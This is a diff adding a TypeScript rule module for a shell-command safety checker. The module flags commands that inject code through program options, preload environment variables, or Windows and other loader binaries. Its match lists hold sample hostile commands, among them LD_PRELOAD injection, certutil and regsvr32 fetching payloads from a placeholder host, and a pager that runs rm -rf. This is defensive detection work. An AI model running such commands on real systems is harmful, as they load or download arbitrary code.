@@ -1,0 +1,181 @@
+import type { Call } from '../shell/call.ts';
+import { knownArgs } from '../shell/call.ts';
+import { assignedPairs, commandTexts } from '../shell/command-options.ts';
+import { asksHelp, fieldHit } from './matching.ts';
+import type { Hit, Rule } from './rule.ts';
+
+function runsOption(call: Call): Hit {
+  const [first] = commandTexts(call);
+  return first ? fieldHit(first.text, `runs a command through ${first.what}`) : false;
+}
+
+const PRELOAD =
+  /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|DYLD_FORCE_FLAT_NAMESPACE|BASH_ENV|ENV|PYTHONSTARTUP|PERL5DB|GCONV_PATH|PYTHONHOME|GIT_TEMPLATE_DIR|GIT_EXEC_PATH|LESSKEY|COMSPEC|OPENSSL_CONF|ZDOTDIR|SHELLOPTS)$/;
+
+/** Variables that make programs load or run something else first. */
+function preloads(call: Call): Hit {
+  for (const [name, value, at] of assignedPairs(call)) {
+    if (value === '') continue;
+    if (PRELOAD.test(name) && !(name === 'ENV' && /^[\w.-]*$/.test(value)))
+      return fieldHit(at, `loads code through ${name}`);
+    if (name === 'NODE_OPTIONS' && /(?:^|\s)(?:--require|-r|--import|--loader|--experimental-loader)\b/.test(value))
+      return fieldHit(at, 'loads code through NODE_OPTIONS');
+    if (
+      /^(?:JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|MAVEN_OPTS|GRADLE_OPTS)$/.test(name) &&
+      /-(?:javaagent|agentpath|agentlib)|-XX:OnOutOfMemoryError/.test(value)
+    )
+      return fieldHit(at, `loads code through ${name}`);
+    if (name === 'PERL5OPT' || (name === 'RUBYOPT' && /-r/.test(value)))
+      return fieldHit(at, `loads code through ${name}`);
+    if (
+      /^GIT_CONFIG_(?:KEY|VALUE|COUNT|PARAMETERS|GLOBAL|SYSTEM)/.test(name) &&
+      !/^(?:\/dev\/null|\d+)$/.test(value) &&
+      /^GIT_CONFIG_(?:KEY|PARAMETERS)/.test(name) &&
+      /pager|editor|ssh|alias|hook|fsmonitor|filter|diff|credential|exec|command/i.test(value)
+    )
+      return fieldHit(at, `runs a command through ${name}`);
+  }
+  return false;
+}
+
+/** Options that load a library or a module of the caller's choice. */
+function loadsLibrary(call: Call): Hit {
+  if (asksHelp(call)) return false;
+  const args = knownArgs(call);
+  switch (call.program) {
+    case 'ssh-keygen':
+    case 'ssh-add':
+      return call.args.some(
+        (arg, i) => /^-[Ds]$/.test(arg.text) && /\.(?:so|dylib|dll)\b|\//.test(call.args[i + 1]?.text ?? ''),
+      );
+    case 'sqlite3':
+      return args.some((arg) => /^\.load\b|load_extension\s*\(/i.test(arg));
+    case 'openssl':
+      return call.args.some(
+        (arg, i) =>
+          /^-(?:engine|provider-path|provider_path)$/.test(arg.text) && /\//.test(call.args[i + 1]?.text ?? ''),
+      );
+    case 'php':
+      return (
+        args.some((arg) => /^-d$|^-d./.test(arg)) &&
+        args.some((arg) =>
+          /auto_prepend_file|auto_append_file|extension=|zend_extension|disable_functions|allow_url_include/.test(arg),
+        )
+      );
+    case 'rundll32':
+    case 'regsvr32':
+    case 'mshta':
+    case 'installutil':
+    case 'regasm':
+    case 'cmstp':
+    case 'odbcconf':
+      return call.args.length > 0;
+    case 'wscript':
+    case 'cscript':
+      return (
+        args.some((arg) => /\.(?:vbs|js|wsf|vbe|jse)$/i.test(arg)) && args.some((arg) => /^\\\\|https?:/.test(arg))
+      );
+    case 'certutil':
+      return args.some((arg) => /^[-/](?:decode|decodehex|urlcache|verifyctl)$/i.test(arg));
+    case 'bitsadmin':
+      return args.some((arg) => /^\/(?:transfer|addfile|setnotifycmdline)$/i.test(arg));
+    case 'deno':
+      return args.some((arg) => /^https?:\/\//.test(arg));
+    default:
+      return false;
+  }
+}
+
+export const optionRules: readonly Rule[] = [
+  {
+    id: 'code.option',
+    grade: 'dangerous',
+    programs: '*',
+    test: runsOption,
+    why: 'runs a command through an option of an ordinary program',
+    match: [
+      'git -c core.pager="rm -rf d" log',
+      'man -P "sh -c x" ls',
+      'tar cf a.tar d --checkpoint-action=exec=sh',
+      'ssh -o ProxyCommand="touch x" h',
+      'rg --pre ./x y',
+      'vim -c ":!ls" -c q',
+      'PAGER="sh -c x" man ls',
+      'less +"!ls" f',
+      'sed "1e ls" f',
+      'git config core.sshCommand "sh x"',
+    ],
+    notMatch: [
+      'git -c core.pager=cat log',
+      'GIT_PAGER=cat git log',
+      'tar -I zstd -cf a.tar d',
+      'rsync -e ssh a h:b',
+      'rsync -e "ssh -p 22" a h:b',
+      'EDITOR=true git commit',
+      'ssh -o StrictHostKeyChecking=no h',
+      'git config user.name x',
+      "sed 's/a/e/' f",
+      'git -c user.name=x commit -m y',
+    ],
+  },
+  {
+    id: 'code.preload',
+    grade: 'dangerous',
+    programs: '*',
+    test: preloads,
+    why: 'makes programs load or run something else first',
+    match: [
+      'LD_PRELOAD=/tmp/x.so ls',
+      'export LD_PRELOAD=/tmp/x.so',
+      'env BASH_ENV=/tmp/x bash -c ls',
+      'NODE_OPTIONS="--require /tmp/x.js" node a.js',
+      'DYLD_INSERT_LIBRARIES=x ls',
+    ],
+    notMatch: [
+      'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
+      'FOO=1 ls',
+      'NODE_ENV=test npm test',
+      'LD_LIBRARY_PATH=./lib ./app',
+      'ENV=prod make',
+    ],
+  },
+  {
+    id: 'code.library',
+    grade: 'dangerous',
+    programs: [
+      'ssh-keygen',
+      'ssh-add',
+      'sqlite3',
+      'openssl',
+      'php',
+      'rundll32',
+      'regsvr32',
+      'mshta',
+      'installutil',
+      'regasm',
+      'cmstp',
+      'odbcconf',
+      'wscript',
+      'cscript',
+      'certutil',
+      'bitsadmin',
+      'deno',
+    ],
+    test: loadsLibrary,
+    why: 'loads code from a file or an address into an ordinary program',
+    match: [
+      'ssh-keygen -D ./lib.so',
+      'rundll32 x.dll,Start',
+      'deno run https://x.example/a.ts',
+      'certutil -urlcache -f http://x.example/a a.exe',
+      'regsvr32 /s /u /i:http://x.example/a scrobj.dll',
+    ],
+    notMatch: [
+      'ssh-keygen -t ed25519',
+      'ssh-add -l',
+      'deno run main.ts',
+      'certutil -hashfile a SHA256',
+      'php -d memory_limit=1G a.php',
+    ],
+  },
+];
